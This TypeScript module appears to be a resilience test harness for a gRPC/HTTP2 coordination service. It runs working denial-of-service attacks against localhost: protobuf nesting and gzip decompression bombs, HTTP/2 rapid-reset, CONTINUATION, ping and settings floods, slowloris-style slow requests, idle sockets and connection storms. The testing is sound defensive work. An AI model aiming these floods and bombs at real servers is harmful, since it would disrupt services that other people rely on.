import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { call, message, open, request, tally } from './hostile-calls.js';
import { dial, flood, frame, frameTypes, preface, type Target } from './raw-http2.js';

/** Where attacks come from: honest participants have another address of this machine. */
const from = '127.0.0.2';

export interface Targets {
  /** Without a certificate. */
  readonly stranger: Target;
  /** With that of a participant. */
  readonly insider: Target;
}

export interface Attack {
  readonly name: string;
  /** @param share of the usual size, 0 … 1. @returns what the coordinator answered, in words. */
  readonly run: (targets: Targets, share: number) => Promise<string>;
}

const enroll = '/concordat.v1.Membership/Enroll';
const advertise = '/concordat.v1.Rounds/Advertise';
const health = '/grpc.health.v1.Health/Check';

/** Field 1 within field 1, as deep as it goes. */
function nested(bytes: number): Buffer {
  const lengths: Buffer[] = [];
  let inside = 0;
  while (inside < bytes) {
    const head = Buffer.concat([Buffer.from([0x0a]), varint(inside)]);
    lengths.push(head);
    inside += head.length;
  }
  return Buffer.concat(lengths.reverse());
}

function varint(value: number): Buffer {
  const bytes: number[] = [];
  for (let left = value; ; left >>>= 7) {
    if (left < 0x80) return Buffer.from([...bytes, left]);
    bytes.push((left & 0x7f) | 0x80);
  }
}

/** Each of these to a method that takes strangers and to one of the round. */
async function bombs({ stranger, insider }: Targets, body: (bytes: number) => Buffer, headers = {}): Promise<string> {
  const answers: string[] = [];
  for (const [target, path, bytes] of [
    [stranger, enroll, 60_000],
    [insider, advertise, 2_000_000],
  ] as const) {
    const bomb = body(bytes);
    const session = await open(target, from);
    for (let i = 0; i < 4; i++) answers.push(await call(session, path, bomb, headers));
    session.destroy();
  }
  return tally(answers);
}

function* repeated(bytes: Buffer, times: number): Generator<Buffer> {
  for (let i = 0; i < times; i++) yield bytes;
}

async function rawFlood(target: Target, first: readonly Buffer[], piece: Buffer, times: number): Promise<string> {
  const socket = await dial(target, from);
  for (const one of [preface, frame(frameTypes.settings, {}), ...first]) socket.write(one);
  return flood(socket, repeated(piece, times));
}

export const attacks: readonly Attack[] = [
  {
    name: 'messages nested as deep as they go',
    run: (targets) => bombs(targets, (bytes) => message(nested(bytes))),
  },
  {
    name: 'messages of a million empty fields',
    run: (targets) => bombs(targets, (bytes) => message(Buffer.alloc(bytes, Buffer.from([0x0a, 0x00])))),
  },
  {
    name: 'messages of two million packed numbers',
    run: (targets) =>
      bombs(targets, (bytes) => message(Buffer.concat([Buffer.from([0x0a]), varint(bytes), Buffer.alloc(bytes)]))),
  },
  {
    name: 'messages that announce four gigabytes',
    run: (targets) => bombs(targets, () => message(Buffer.alloc(100), { announced: 0xffffffff })),
  },
  {
    name: 'messages of 256 megabytes in 256 kilobytes of gzip',
    run: (targets, share) => {
      const packed = gzipSync(Buffer.alloc(Math.ceil(share * 256e6)));
      return bombs(targets, () => message(packed, { compressed: true }), { 'grpc-encoding': 'gzip' });
    },
  },
  {
    name: 'calls that are taken back at once, 20,000 of them',
    async run({ stranger, insider }, share) {
      const ends: string[] = [];
      for (const target of [stranger, insider]) {
        const session = await open(target, from);
        const calls = Math.ceil(share * 10_000);
        for (let i = 0; i < calls && !session.destroyed && !session.closed; i++) {
          try {
            request(session, health).close(8);
          } catch {
            break;
          }
          if (i % 100 === 0) await sleep(0);
        }
        await sleep(300);
        ends.push(session.destroyed || session.closed ? 'the connection was ended' : 'taken');
        session.destroy();
      }
      return tally(ends);
    },
  },
  {
    name: 'a header of a megabyte',
    async run({ insider }) {
      const session = await open(insider, from, { maxSendHeaderBlockLength: 2e6 });
      const answer = await call(session, health, message(Buffer.alloc(0)), { 'x-a': 'a'.repeat(1e6) });
      session.destroy();
      return answer;
    },
  },
  {
    name: 'headers that never end, 40 megabytes of them',
    run: ({ stranger }, share) =>
      rawFlood(
        stranger,
        // A literal field whose name is one byte and whose value is empty, over and over.
        [frame(frameTypes.headers, { stream: 1, payload: Buffer.from([0x00, 0x01, 0x61, 0x00]) })],
        frame(frameTypes.continuation, {
          stream: 1,
          payload: Buffer.alloc(16_000, Buffer.from([0x00, 0x01, 0x61, 0x00])),
        }),
        Math.ceil(share * 2_500),
      ),
  },
  {
    name: 'pings, 200,000 of them',
    run: ({ stranger }, share) =>
      rawFlood(stranger, [], frame(frameTypes.ping, { payload: Buffer.alloc(8) }), Math.ceil(share * 200_000)),
  },
  {
    name: 'settings, 200,000 of them',
    run: ({ stranger }, share) => rawFlood(stranger, [], frame(frameTypes.settings, {}), Math.ceil(share * 200_000)),
  },
  {
    name: 'calls of methods that are not there, and of those of others, 4,000 of them',
    async run({ stranger, insider }, share) {
      const answers: string[] = [];
      for (const [target, path] of [
        [stranger, '/x.Y/Z'],
        [insider, '/concordat.v1.Runs/Start'],
      ] as const) {
        const session = await open(target, from);
        for (let i = 0; i < Math.ceil(share * 200); i++) {
          const some = Array.from({ length: 10 }, () => call(session, path, message(Buffer.alloc(0))));
          answers.push(...(await Promise.all(some)));
        }
        session.destroy();
      }
      return tally(answers);
    },
  },
  {
    name: 'calls of one participant, 4,000 as fast as they go',
    async run({ insider }, share) {
      const session = await open(insider, from);
      const answers: string[] = [];
      for (let i = 0; i < Math.ceil(share * 400); i++) {
        const path = '/concordat.v1.Rounds/Receipts';
        const some = Array.from({ length: 10 }, () => call(session, path, message(Buffer.alloc(0))));
        answers.push(...(await Promise.all(some)));
      }
      session.destroy();
      return tally(answers);
    },
  },
  {
    name: 'readers that take nothing, and requests of a byte a second',
    async run({ stranger, insider }, share) {
      const reading = await open(insider, from, { settings: { initialWindowSize: 0 } });
      const unread = Array.from({ length: 16 }, () => call(reading, health, message(Buffer.alloc(0))));
      const writing = await open(stranger, from);
      const streams = Array.from({ length: 16 }, () => request(writing, enroll));
      const piece = message(Buffer.alloc(1_000));
      const seconds = Math.ceil(share * 8);
      for (let second = 0; second < seconds; second++) {
        for (const stream of streams) if (!stream.destroyed) stream.write(piece.subarray(second, second + 1));
        await sleep(1_000);
      }
      const open_ = streams.filter((stream) => !stream.destroyed).length;
      writing.destroy();
      reading.destroy();
      return `${open_} of 16 requests go on; unread: ${tally(await Promise.all(unread))}`;
    },
  },
  {
    name: 'sockets that say nothing, or half of a handshake, 400 of them',
    async run({ stranger }, share) {
      const sockets: Socket[] = [];
      for (let i = 0; i < Math.ceil(share * 400); i++) {
        const socket = connectTcp({ host: '127.0.0.1', port: stranger.port, localAddress: `127.0.0.${10 + (i % 8)}` });
        socket.on('error', () => undefined).resume();
        if (i % 2 === 1) socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01]));
        sockets.push(socket);
      }
      await sleep(5_000);
      const left = sockets.filter((socket) => !socket.destroyed).length;
      for (const socket of sockets) socket.destroy();
      return `${sockets.length - left} of ${sockets.length} were ended within 5 s`;
    },
  },
  {
    name: 'a storm of 500 that connect at once, each from its own address, twice',
    async run({ insider }, share) {
      const count = Math.ceil(share * 500);
      const times: number[] = [];
      const answers: string[] = [];
      for (let turn = 0; turn < 2; turn++) {
        const started = performance.now();
        const sessions = await Promise.all(
          Array.from({ length: count }, async (_, i) => {
            const from = `127.0.${1 + (i >> 7)}.${1 + (i & 127)}`;
            // As clients do: again after a while, as long as nobody answered.
            for (let attempt = 1; ; attempt++) {
              const session = await open(insider, from).catch(() => undefined);
              const empty = message(Buffer.alloc(0));
              const answer = session === undefined ? 'no connection' : await call(session, health, empty);
              if (answer === 'OK' || attempt === 20) {
                answers.push(answer);
                return session;
              }
              session?.destroy();
              await sleep(250 + 100 * (i % 18));
            }
          }),
        );
        times.push(performance.now() - started);
        for (const session of sessions) session?.destroy();
      }
      return `${tally(answers)}; all answered within ${Math.max(...times.map((ms) => ms / 1000)).toFixed(1)} s`;
    },
  },
];
